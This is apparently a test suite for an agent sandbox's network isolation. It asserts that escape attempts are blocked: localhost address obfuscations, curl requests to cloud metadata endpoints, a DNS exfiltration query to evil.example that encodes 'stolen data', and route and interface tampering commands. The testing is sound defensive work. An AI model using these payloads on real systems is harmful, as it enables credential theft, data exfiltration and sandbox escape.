/**
 * Escapes over the network. Whatever address and port a workload names, nothing arrives anywhere but at the egress:
 * not with TCP, not with UDP, not in questions to DNS, and neither at the host's own addresses.
 */
import assert from 'node:assert/strict'
import { createSocket, type Socket as UdpSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer, type AddressInfo, type Server } from 'node:net'
import { networkInterfaces } from 'node:os'
import { after, before, describe, test } from 'node:test'
import { CageHost, withoutCagesOr } from '../support/cage.ts'
import type { CageSession } from '../support/session.ts'

/** argv: address, port. Prints `connected`, or why not. */
const CONNECT = `
import errno, socket, sys
address, port = sys.argv[1], int(sys.argv[2])
connection = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
try:
    connection.connect((address, port))
    print("connected")
except OSError as error:
    print(errno.errorcode[error.errno])
`

/** argv: address, port. Sends a datagram; prints what comes back within a moment, which only the host could send. */
const DATAGRAM = `
import socket, sys
address, port = sys.argv[1], int(sys.argv[2])
udp = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(0.2)
try:
    udp.sendto(b"out", (address, port))
    print(udp.recv(100))
except OSError as error:
    print("nothing", error)
`

describe('the network', { skip: withoutCagesOr('python3', 'curl', 'ip') }, () => {
  let host: CageHost
  let cage: CageSession
  let server: Server
  let udp: UdpSocket
  let port: number
  let udpPort: number
  let arrived = 0

  before(async () => {
    server = createServer((socket) => socket.destroy(void arrived++)).listen(0, '::')
    udp = createSocket({ type: 'udp6' }, () => arrived++)
    udp.bind(0, '::')
    await Promise.all([once(server, 'listening'), once(udp, 'listening')])
    port = (server.address() as AddressInfo).port
    udpPort = udp.address().port
    // The most a policy can allow: what holds here is not the list.
    host = await CageHost.open({
      config: { domains: { mode: 'blocklist', list: ['evil.example'] }, logging: { dns_queries: true } },
    })
    cage = await host.session()
  })
  after(async () => {
    await cage.close()
    await host[Symbol.asyncDispose]()
    udp.close()
    server.close()
  })

  const connect = async (address: string, to: number): Promise<string> =>
    (await cage.run(['python3', '-c', CONNECT, address, String(to)])).stdout.trim()

  const hostAddresses = (): readonly string[] =>
    Object.values(networkInterfaces())
      .flatMap((list) => list ?? [])
      .map(({ address, scopeid }) => (scopeid ? '' : address))
      .filter(Boolean)

  test('ports that are not captured refuse at once, at whatever address', async () => {
    for (const address of ['203.0.113.7', '8.8.8.8', '2001:db8::7', '169.254.169.254'])
      for (const to of [22, 25, 8443]) assert.equal(await connect(address, to), 'ECONNREFUSED', `${address} ${to}`)
  })

  test('a server of the host is not there, at any of its addresses', async () => {
    for (const address of ['127.0.0.1', '::1', ...hostAddresses()])
      assert.equal(await connect(address, port), 'ECONNREFUSED', address)
    assert.equal(arrived, 0)
  })

  test('the egress does not lead to the host either, however its address is written', async () => {
    const names = [
      '127.0.0.1',
      '127.1',
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      'localhost',
      '[::1]',
      '[::ffff:127.0.0.1]',
      '0.0.0.0',
    ]
    const urls = [...names, ...hostAddresses().map((address) => (address.includes(':') ? `[${address}]` : address))]
    for (const name of urls) {
      const flags = `-sS -m 10 --noproxy '' --proxy http://198.18.0.1:3128`
      const { stdout } = await cage.sh(`curl ${flags} 'http://${name}:${port}/'`)
      assert.match(stdout, /"by":\s*"agentcage"/, name)
      const tunnelled = await cage.sh(`curl ${flags} -p 'http://${name}:${port}/'`)
      assert.match(tunnelled.stdout, /"by":\s*"agentcage"|^$/, name)
      const secure = await cage.sh(`curl ${flags} 'https://${name}:${port}/'`)
      assert.match(secure.stdout, /"by":\s*"agentcage"|^$/, name)
    }
    assert.equal(arrived, 0)
  })

  test('the metadata service of a cloud is refused', async () => {
    for (const url of [
      'http://169.254.169.254/latest/meta-data/',
      'http://[fd00:ec2::254]/',
      'http://metadata.google.internal/',
    ]) {
      const { stdout } = await cage.sh(`curl -sS -m 10 -w '%{http_code}' '${url}'`)
      assert.match(stdout, /"by":\s*"agentcage"/)
      assert.match(stdout, /(?:403|502)$/)
    }
  })

  test('TLS to an address, by IPv4 and IPv6, ends at the egress', async () => {
    for (const url of ['https://203.0.113.7/', 'https://[2001:db8::7]/']) {
      const { code } = await cage.sh(`curl -sS --noproxy '*' '${url}'`)
      assert.notEqual(code, 0)
    }
    const records = await host.audit()
    assert.ok(records.filter(({ protocol, decision }) => protocol === 'tls' && decision === 'blocked').length >= 2)
  })

  test('neither TLS nor HTTP on a captured port ends at the egress and is on record', async () => {
    const { stdout } = await cage.python(`
import socket
connection = socket.create_connection(("203.0.113.7", 443))
connection.sendall(b"SSH-2.0-OpenSSH_9.2p1\\r\\n")
print(connection.recv(100))
`)
    assert.equal(stdout, "b''\n")
    assert.ok((await host.audit()).some(({ protocol, decision }) => protocol === 'raw' && decision === 'blocked'))
  })

  test('datagrams arrive nowhere', async () => {
    for (const address of ['127.0.0.1', '::1', ...hostAddresses()]) {
      const { stdout } = await cage.run(['python3', '-c', DATAGRAM, address, String(udpPort)])
      assert.match(stdout, /^nothing/, address)
    }
    // QUIC: there is no listener, so that clients go on with TCP.
    const { stdout } = await cage.run(['python3', '-c', DATAGRAM, '203.0.113.7', '443'])
    assert.match(stdout, /^nothing/)
    assert.equal(arrived, 0)
  })

  test('questions to DNS, of whatever resolver, are answered here', async () => {
    const question = (resolver: string, type: number, name: string): string => `
import socket, struct
name = b"".join(bytes([len(label)]) + label.encode() for label in "${name}".split(".")) + b"\\0"
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(10)
udp.connect(("${resolver}", 53))
udp.send(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + name + struct.pack(">HH", ${type}, 1))
answer = udp.recv(2000)
print(answer[6:8].hex(), socket.inet_ntoa(answer[-4:]))
`
    const data = 'c3RvbGVuIGRhdGE.evil.example'
    for (const resolver of ['8.8.8.8', '203.0.113.53', '127.0.0.53']) {
      assert.equal((await cage.python(question(resolver, 1, data))).stdout, '0001 198.51.100.1\n')
      assert.match((await cage.python(question(resolver, 16, data))).stdout, /^0000 /)
    }
    const records = (await host.audit()).filter(({ protocol }) => protocol === 'dns')
    assert.ok(records.some((record) => record.host === data.toLowerCase() && record.decision === 'blocked'))
    assert.ok(records.every(({ upstream_ip }) => upstream_ip === ''))
  })

  test('routes, links and addresses stay as they are', async () => {
    const untouched = await cage.sh('ip route show table all; ip addr')
    for (const change of [
      'ip route add default via 127.0.0.1',
      'ip route flush table local',
      'ip link set lo down',
      'ip addr add 10.0.0.1/8 dev lo',
      'ip link add veth0 type veth',
      'ip tuntap add tun0 mode tun',
      'ip netns add x',
      'ip rule add from all table 7',
    ]) {
      const { code } = await cage.sh(change)
      assert.notEqual(code, 0, change)
    }
    assert.equal((await cage.sh('ip route show table all; ip addr')).stdout, untouched.stdout)
  })

  test('the egress’s ports cannot be taken over', async () => {
    const { stdout } = await cage.python(`
import errno, socket
for address, port in (("198.18.0.1", 3128), ("0.0.0.0", 443), ("203.0.113.7", 443), ("0.0.0.0", 53), ("127.0.0.1", 80)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        if kind == socket.SOCK_DGRAM and port == 3128: continue
        listener = socket.socket(socket.AF_INET, kind)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        try:
            listener.bind((address, port))
            listener.listen()
            print(address, port, "taken")
        except OSError as error:
            print(errno.errorcode[error.errno])
`)
    assert.match(stdout, /^(?:(?:EACCES|EADDRINUSE)\n)+$/)
  })

  test('the cage has a loopback of its own', async () => {
    const { stdout } = await cage.python(`
import socket
listener = socket.create_server(("127.0.0.1", 8080))
client = socket.create_connection(("127.0.0.1", 8080))
listener.accept()[0].sendall(b"own")
print(client.recv(3))
`)
    assert.equal(stdout, "b'own'\n")
  })
})
